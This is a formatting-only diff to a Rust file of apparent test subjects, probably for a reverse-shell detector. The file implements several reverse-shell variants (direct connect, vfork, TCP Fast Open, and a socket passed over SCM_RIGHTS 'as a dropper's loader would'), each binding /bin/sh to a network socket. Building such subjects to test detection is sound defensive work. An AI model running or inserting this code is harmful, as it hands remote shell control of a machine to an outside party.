@@ -4,9 +4,8 @@ use crate::{Outcome, failed};
 use rustix::fd::{AsFd, BorrowedFd, OwnedFd};
 use rustix::io::fcntl_dupfd_cloexec;
 use rustix::net::{
-    AddressFamily, RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, SendAncillaryBuffer,
-    SendAncillaryMessage, SendFlags, SocketFlags, SocketType, recvmsg, sendmsg, sendto,
-    socket_with, socketpair,
+    AddressFamily, RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, SendAncillaryBuffer, SendAncillaryMessage,
+    SendFlags, SocketFlags, SocketType, recvmsg, sendmsg, sendto, socket_with, socketpair,
 };
 use rustix::process::{Pid, WaitOptions, waitpid};
 use std::io::{IoSlice, IoSliceMut};
@@ -21,9 +20,7 @@ const MSG_FASTOPEN: u32 = 0x2000_0000;
 
 fn connect(spec: &str) -> Result<OwnedFd, String> {
     let addr = subjects::addr::resolve(spec).map_err(|err| err.to_string())?;
-    TcpStream::connect(addr)
-        .map(OwnedFd::from)
-        .map_err(failed(spec))
+    TcpStream::connect(addr).map(OwnedFd::from).map_err(failed(spec))
 }
 
 /// Replaces this process by a shell; returns only the failure.
@@ -68,12 +65,8 @@ pub fn fdup(spec: &str) -> Outcome {
 pub fn vfork(spec: &str) -> Outcome {
     let socket = connect(spec)?;
     let copy = || socket.try_clone().map(Stdio::from).map_err(failed("dup"));
-    let mut child = Command::new("/bin/sh")
-        .stdin(copy()?)
-        .stdout(copy()?)
-        .stderr(copy()?)
-        .spawn()
-        .map_err(failed("/bin/sh"))?;
+    let mut child =
+        Command::new("/bin/sh").stdin(copy()?).stdout(copy()?).stderr(copy()?).spawn().map_err(failed("/bin/sh"))?;
     child.wait().map(drop).map_err(failed("wait"))
 }
 
@@ -107,41 +100,23 @@ fn fork() -> Result<Option<Pid>, String> {
 /// No connect(2): the first bytes open the connection.
 pub fn fast_open(spec: &str) -> Outcome {
     let addr = subjects::addr::resolve(spec).map_err(|err| err.to_string())?;
-    let family = if addr.is_ipv6() {
-        AddressFamily::INET6
-    } else {
-        AddressFamily::INET
-    };
-    let socket = socket_with(family, SocketType::STREAM, SocketFlags::empty(), None)
-        .map_err(failed("socket"))?;
-    sendto(
-        &socket,
-        b"\n",
-        SendFlags::from_bits_retain(MSG_FASTOPEN),
-        &addr,
-    )
-    .map_err(failed(spec))?;
+    let family = if addr.is_ipv6() { AddressFamily::INET6 } else { AddressFamily::INET };
+    let socket = socket_with(family, SocketType::STREAM, SocketFlags::empty(), None).map_err(failed("socket"))?;
+    sendto(&socket, b"\n", SendFlags::from_bits_retain(MSG_FASTOPEN), &addr).map_err(failed(spec))?;
     put_on_stdio(socket)?;
     exec_shell()
 }
 
 /// The process that becomes the shell never connects: it is handed the socket (`SCM_RIGHTS`).
 pub fn handed_over(spec: &str) -> Outcome {
-    let (near, far) = socketpair(
-        AddressFamily::UNIX,
-        SocketType::STREAM,
-        SocketFlags::CLOEXEC,
-        None,
-    )
-    .map_err(failed("socketpair"))?;
+    let (near, far) = socketpair(AddressFamily::UNIX, SocketType::STREAM, SocketFlags::CLOEXEC, None)
+        .map_err(failed("socketpair"))?;
     if let Some(child) = fork()? {
         drop(far);
         let socket = connect(spec)?;
         give(&near, socket.as_fd())?;
         // Stays, with the socket, as a dropper's loader would.
-        return waitpid(Some(child), WaitOptions::empty())
-            .map(drop)
-            .map_err(failed("wait"));
+        return waitpid(Some(child), WaitOptions::empty()).map(drop).map_err(failed("wait"));
     }
     subjects::life::end_after(subjects::life::LIMIT);
     rustix::process::setsid().map_err(failed("setsid"))?;
@@ -157,27 +132,14 @@ fn give(channel: &OwnedFd, fd: BorrowedFd<'_>) -> Outcome {
     if !control.push(SendAncillaryMessage::ScmRights(&fds)) {
         return Err("SCM_RIGHTS: no room".into());
     }
-    sendmsg(
-        channel,
-        &[IoSlice::new(b"x")],
-        &mut control,
-        SendFlags::empty(),
-    )
-    .map(drop)
-    .map_err(failed("sendmsg"))
+    sendmsg(channel, &[IoSlice::new(b"x")], &mut control, SendFlags::empty()).map(drop).map_err(failed("sendmsg"))
 }
 
 fn take(channel: &OwnedFd) -> Result<OwnedFd, String> {
     let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
     let mut control = RecvAncillaryBuffer::new(&mut space);
     let mut byte = [0; 1];
-    recvmsg(
-        channel,
-        &mut [IoSliceMut::new(&mut byte)],
-        &mut control,
-        RecvFlags::empty(),
-    )
-    .map_err(failed("recvmsg"))?;
+    recvmsg(channel, &mut [IoSliceMut::new(&mut byte)], &mut control, RecvFlags::empty()).map_err(failed("recvmsg"))?;
     control
         .drain()
         .find_map(|message| match message {
